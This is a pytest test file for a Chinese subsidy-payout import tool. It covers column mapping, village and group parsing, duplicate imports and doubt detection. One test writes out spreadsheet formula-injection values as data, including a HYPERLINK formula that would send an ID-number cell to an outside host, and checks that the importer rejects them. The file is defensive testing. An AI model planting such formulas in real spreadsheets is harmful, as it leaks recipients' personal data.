"""Real export layouts, 村组 spellings, 一览表 and re-imports: rows, totals, villages, groups and
which column became what (issue 13)."""

from __future__ import annotations

from pathlib import Path

import openpyxl
from sqlalchemy import select

from gkdesk.models import Payout, PayoutBatch, ProgramTotal
from tests.payout_files import pid, simple_xlsx
from tests.payout_real_files import (
    CUNZU,
    cunzu_list,
    gaoling_roster,
    minzheng_family_export,
    overview_table,
    yikatong_export,
)

AREA = ["--program", "耕地地力保护补贴", "--year", "2026"]


def rows_of(store, batch: str) -> list[Payout]:
    with store.session() as s:
        return list(s.scalars(select(Payout).where(Payout.batch_id == batch).order_by(Payout.seq)))


def test_yikatong_export(store, cli, tmp_path: Path) -> None:
    f = yikatong_export(tmp_path / "耕地地力保护补贴_社保卡.xlsx")
    j = cli("payouts", "import", str(f), *AREA, "--json").json
    assert (j["status"], j["rows"], j["total_amount"]) == ("imported", 3, "1000.50")
    assert j["villages"] == {"高桥村": 2, "柳树村": 1}
    assert j["columns"] == {"id_number": "收款人身份证号", "name": "收款人全称", "amount": "最终确定发放该人补贴总金额",
                            "account_number": "银行账号", "quantity": "面积", "address": "收款人家庭地址",
                            "remark": "备注"}
    assert j["layout"] is None
    got = [(p.recipient_name, p.group_name, p.group_number, p.account_number) for p in rows_of(store, j["batch"])]
    assert got == [("张大山", "3组", 3, "6230580000000000011"), ("李秀英", "6组", 6, "6230580000000000022"),
                   ("王建国", "1组", 1, "6230580000000000033")]


def test_minzheng_family_export_pays_the_total_to_the_yikatong_account(store, cli, tmp_path: Path) -> None:
    f = minzheng_family_export(tmp_path / "农村低保家庭查询_20261101.xlsx")
    r = cli("payouts", "import", str(f), "--program", "城乡居民最低生活保障金", "--year", "2026",
            "--period", "2026年10月", "--json")
    j = r.json
    assert r.code == 0, r.out
    assert (j["status"], j["rows"], j["total_amount"]) == ("imported", 3, "1250.00")
    assert j["villages"] == {"高桥村": 1, "柳树村": 1, "新华社区": 1}
    c = j["columns"]
    assert (c["name"], c["id_number"], c["amount"], c["account_number"], c["quantity"], c["village"]) == \
        ("户主姓名", "户主身份证号", "合计(元)", "一卡通账号", "保障人口", "所属社区")
    notes = " ".join(j["column_notes"])
    assert "户月保障金额" in notes and "银行帐号" in notes and "家庭人口" in notes
    rows = rows_of(store, j["batch"])
    assert [(p.recipient_name, p.quantity, p.amount_fen, p.account_number, p.month) for p in rows] == [
        ("赵老三", 3, 70000, "6230580000000000011", "2026-10"), ("钱二妹", 2, 45000, "6230580000000000012", "2026-10"),
        ("孙·阿依", 1, 10000, "6230580000000000013", "2026-10")]
    with store.session() as s:
        b = s.get(PayoutBatch, j["batch"])
        assert b.program.name == "低保金"  # the official name found the program by its alias


def test_gaoling_roster_with_title_row(store, cli, tmp_path: Path) -> None:
    f = gaoling_roster(tmp_path / "津贴对象.xlsx")
    j = cli("payouts", "import", str(f), "--program", "高龄津贴", "--year", "2026", "--period", "10月", "--json").json
    assert (j["status"], j["rows"], j["total_amount"]) == ("imported", 3, "350.00")
    assert j["villages"] == {"高桥村": 1, "柳树村": 1, "新华社区": 1}
    assert (j["columns"]["name"], j["columns"]["amount"], j["columns"]["account_number"], j["columns"]["address"]) == \
        ("老人姓名", "发放金额", "银行卡号", "户籍地址")
    assert "phone" not in j["columns"] and all("联系" not in v for v in j["columns"].values())
    assert [(p.group_name, p.group_number) for p in rows_of(store, j["batch"])] == [("2组", 2), ("3组", 3), ("", None)]


def test_cunzu_column_in_every_spelling(store, cli, tmp_path: Path) -> None:
    f = cunzu_list(tmp_path / "村组.xlsx")
    j = cli("payouts", "import", str(f), *AREA, "--json").json
    assert (j["status"], j["rows"], j["total_amount"]) == ("imported", len(CUNZU), f"{100 * len(CUNZU)}.00")
    assert j["columns"]["village_group"] == "村组" and "village" not in j["columns"]
    assert j["villages"] == {"高桥村": 6, "柳树村": 2}
    got = [(p.village_id, p.group_name, p.group_number) for p in rows_of(store, j["batch"])]
    with store.session() as s:
        from gkdesk.models import Village

        names = {v.id: v.name for v in s.scalars(select(Village))}
    assert [(names[v], g, n) for v, g, n in got] == [(v, g, n) for _cell, v, g, n in CUNZU]
    with store.session() as s:  # no village named after a group was created
        assert sorted(v.name for v in s.scalars(select(Village))) == ["新华社区", "柳树村", "高桥村"]


def test_unknown_village_with_group_is_never_offered_for_creation(store, cli, tmp_path: Path) -> None:
    f = simple_xlsx(tmp_path / "x.xlsx", [["石板村", "", "甲", pid(1), 1, 100, 100], ["石板村3组", "", "乙", pid(2), 1, 100, 100],
                                          ["高桥村委会", "", "丙", pid(3), 1, 100, 100], ["高桥", "", "丁", pid(4), 1, 100, 100]])
    r = cli("payouts", "import", str(f), *AREA, "--add-villages", "--json")
    # 高桥村委会 is 高桥村 (normalised); 高桥 is offered as 高桥村, never created; 石板村3组 is 石板村's 3组
    assert r.code == 1 and r.json["village_suggestions"] == {"高桥": "高桥村"}
    assert [e["row"] for e in r.json["errors"]] == [6]
    r = cli("payouts", "import", str(f), *AREA, "--add-villages", "--village-map", "高桥=高桥村", "--json")
    j = r.json
    assert r.code == 0, r.out
    assert j["villages"] == {"石板村": 2, "高桥村": 2}
    with store.session() as s:
        from gkdesk.models import Village

        assert "石板村3组" not in {v.name for v in s.scalars(select(Village))}


def test_reimport_under_another_period_is_refused(store, cli, tmp_path: Path) -> None:
    f = minzheng_family_export(tmp_path / "低保.xlsx")
    common = ["--program", "低保金", "--year", "2026", "--json"]
    first = cli("payouts", "import", str(f), *common, "--period", "2026年10月").json
    wb = openpyxl.load_workbook(f)
    wb.active["T1"] = "最初享受月份 "  # same rows, another file hash
    g = tmp_path / "低保-11月.xlsx"
    wb.save(g)
    r = cli("payouts", "import", str(g), *common, "--period", "2026年11月")
    assert r.code == 1
    j = r.json
    assert j["status"] == "rejected" and j["duplicate_of"] == first["batch"]
    assert first["batch"][:8] in j["message"] and "--allow-duplicate" in j["message"]
    with store.session() as s:
        assert len(s.scalars(select(PayoutBatch).where(PayoutBatch.deleted_at.is_(None))).all()) == 1
    r = cli("payouts", "import", str(g), *common, "--period", "2026年11月", "--allow-duplicate")
    assert r.code == 0 and r.json["rows"] == 3


def test_same_person_twice_and_dibao_with_tekun_are_doubts(store, cli, tmp_path: Path) -> None:
    header = ["村", "组", "姓名", "身份证号", "发放月份", "金额"]
    a = simple_xlsx(tmp_path / "a.xlsx", [["高桥村", 1, "甲", pid(1), "2026-10", 500], ["高桥村", 1, "乙", pid(2), "2026-10", 500]],
                    header=header)
    b = simple_xlsx(tmp_path / "b.xlsx", [["高桥村", 1, "甲", pid(1), "2026-10", 600]], header=header)
    c = simple_xlsx(tmp_path / "c.xlsx", [["高桥村", 1, "甲", pid(1), "2026-10", 700], ["高桥村", 1, "丙", pid(3), "2026-10", 70]],
                    header=header)
    assert cli("payouts", "import", str(a), "--program", "低保金", "--year", "2026", "--period", "第一批", "--json").code == 0
    j = cli("payouts", "import", str(b), "--program", "低保金", "--year", "2026", "--period", "补发", "--json").json
    assert [d["kind"] for d in j["doubts"]] == ["同期重复领取"] and pid(1) not in str(j["doubts"])
    j = cli("payouts", "import", str(c), "--program", "特困供养金", "--year", "2026", "--period", "10月", "--json").json
    assert j["status"] == "imported" and {d["kind"] for d in j["doubts"]} == {"低保与特困同月"}
    out = tmp_path / "疑点核查表.xlsx"
    r = cli("payouts", "doubts", j["batch"], "-o", str(out), "--json")
    assert r.code == 0 and len(r.json["doubts"]) == 1
    ws = openpyxl.load_workbook(out).active
    assert ws["A3"].value == "低保与特困同月" and ws["B3"].value == "甲" and "*" in ws["C3"].value


def test_overview_table_is_named_and_can_be_stored_as_total(store, cli, tmp_path: Path) -> None:
    f = overview_table(tmp_path / "一览表.xlsx")
    r = cli("payouts", "import", str(f), "--program", "实际种粮农民一次性补贴", "--year", "2021", "--json")
    assert r.code == 1 and "一览表" in r.json["message"] and "3个乡镇" in r.json["message"]
    assert "250000.00" in r.json["message"] and "--as-total" in r.json["message"]
    r = cli("payouts", "import", str(f), "--program", "实际种粮农民一次性补贴", "--year", "2021", "--as-total", "--json")
    assert r.code == 0, r.out
    with store.session() as s:
        t = s.scalars(select(ProgramTotal)).one()
        assert (t.area_name, t.amount_fen, t.quantity) == ("高桥镇", 12500000, "10000")


def test_hostile_names_amounts_and_months(store, cli, tmp_path: Path) -> None:
    rows = [["高桥村", 1, '=HYPERLINK("http://x/?"&D3,"点我")', pid(1), 1, 1, 100],
            ["高桥村", 1, "@SUM(A1)", pid(2), 1, 1, 100], ["高桥村", 1, "甲", pid(3), 1, 1, "1e400"],
            ["高桥村", 1, "乙", pid(4), 1, 1, "123456789012345678901234567890"], ["高桥村", 1, "丙", pid(5), 1, 1, 1e20]]
    import csv

    f = tmp_path / "坏.csv"  # in a CSV (or a text cell) a formula arrives as text
    with f.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["2026年补贴发放名单"])
        w.writerow(["村", "组", "姓名", "身份证号", "面积", "标准", "金额"])
        w.writerows(rows)
    r = cli("payouts", "import", str(f), *AREA, "--json")
    assert r.code == 1 and "Traceback" not in r.err
    errs = {(e["row"], e["column"]): e["message"] for e in r.json["errors"]}
    assert "公式" in errs[(3, "姓名")] and "公式" in errs[(4, "姓名")]
    assert all("超出合理范围" in errs[(n, "金额")] for n in (5, 6, 7))
    m = simple_xlsx(tmp_path / "月.xlsx", [["高桥村", 1, "甲", pid(1), 99999, 100]],
                    header=["村", "组", "姓名", "身份证号", "发放月份", "金额"])
    r = cli("payouts", "import", str(m), "--program", "低保金", "--year", "2026", "--json")
    assert r.code == 1 and "99999" in r.json["errors"][0]["message"]


def test_village_from_sheet_name_title_or_choice(store, cli, tmp_path: Path) -> None:
    header = ["序号", "姓名", "身份证号", "组别", "金额"]
    rows = [[1, "甲", pid(61), "第二组", 100], [2, "乙", pid(62), "3社", 50]]
    by_title = simple_xlsx(tmp_path / "t.xlsx", rows, header=header, title="高桥镇柳树村2026年临时救助名单")
    j = cli("payouts", "import", str(by_title), "--program", "临时救助", "--year", "2026", "--period", "一", "--json").json
    assert (j["status"], j["villages"], j["total_amount"]) == ("imported", {"柳树村": 2}, "150.00")
    assert [(p.group_name, p.group_number) for p in rows_of(store, j["batch"])] == [("2组", 2), ("3社", 3)]
    by_sheet = simple_xlsx(tmp_path / "s.xlsx", [[1, "丙", pid(63), 1, 80]], header=header, title="临时救助名单",
                           sheet="新华社区")
    j = cli("payouts", "import", str(by_sheet), "--program", "临时救助", "--year", "2026", "--period", "二", "--json").json
    assert j["villages"] == {"新华社区": 1}
    plain = simple_xlsx(tmp_path / "p.xlsx", [[1, "丁", pid(64), 1, 70]], header=header, title="临时救助名单")
    r = cli("payouts", "import", str(plain), "--program", "临时救助", "--year", "2026", "--period", "三", "--json")
    assert r.code == 1  # "Sheet1" is no village
    r = cli("payouts", "import", str(plain), "--program", "临时救助", "--year", "2026", "--period", "三",
            "--village", "高桥村", "--json")
    assert r.code == 0 and r.json["villages"] == {"高桥村": 1}
    r = cli("payouts", "import", str(plain), "--program", "临时救助", "--year", "2026", "--village", "没有村", "--json")
    assert r.code != 0 and "没有名为“没有村”的村" in (r.out + r.err)


def test_standard_per_mu_is_the_rate_not_a_competing_quantity(store, cli, tmp_path: Path) -> None:
    """补贴标准(元/亩) names 亩 like the area does; it is the rate, and no rule note claims otherwise."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["序号", "村(社区)", "村民小组", "户主姓名", "身份证号码", "补贴面积(亩)", "补贴标准(元/亩)", "补贴金额(元)"])
    ws.append([1, "高桥村", "2组", "王国华", pid(1), 2.5, 131.42, 328.55])
    ws.append([2, "柳树村", "3组", "李秀英", pid(2), 1.0, 131.42, 131.42])
    wb.save(tmp_path / "清册.xlsx")
    j = cli("payouts", "import", str(tmp_path / "清册.xlsx"), *AREA, "--json").json
    assert j["status"] == "imported", j
    assert (j["columns"]["quantity"], j["columns"]["rate"]) == ("补贴面积(亩)", "补贴标准(元/亩)")
    assert not any("保障人口" in n for n in j.get("column_notes", []))


def test_monthly_program_next_month_is_no_doubt_same_month_is(store, cli, tmp_path: Path) -> None:
    """低保 is paid every month: the same person in September and October is normal; a second
    October list naming them again is a doubt (the stored rows are matched month by month)."""
    header = ["村", "组", "姓名", "身份证号", "发放月份", "金额"]
    sep = simple_xlsx(tmp_path / "9.xlsx", [["高桥村", 1, "甲", pid(1), "2026-09", 500]], header=header)
    octo = simple_xlsx(tmp_path / "10.xlsx", [["高桥村", 1, "甲", pid(1), "2026-10", 500],
                                              ["高桥村", 1, "乙", pid(2), "2026-10", 300]], header=header)
    again = simple_xlsx(tmp_path / "10b.xlsx", [["高桥村", 1, "乙", pid(2), "2026-10", 310]], header=header)
    dibao = ["--program", "低保金", "--year", "2026", "--json"]
    assert cli("payouts", "import", str(sep), *dibao, "--period", "9月").code == 0
    j = cli("payouts", "import", str(octo), *dibao, "--period", "10月").json
    assert j["status"] == "imported" and j.get("doubts", []) == []
    j = cli("payouts", "import", str(again), *dibao, "--period", "10月补发").json
    assert [(d["kind"], d["name"]) for d in j["doubts"]] == [("同期重复领取", "乙")]
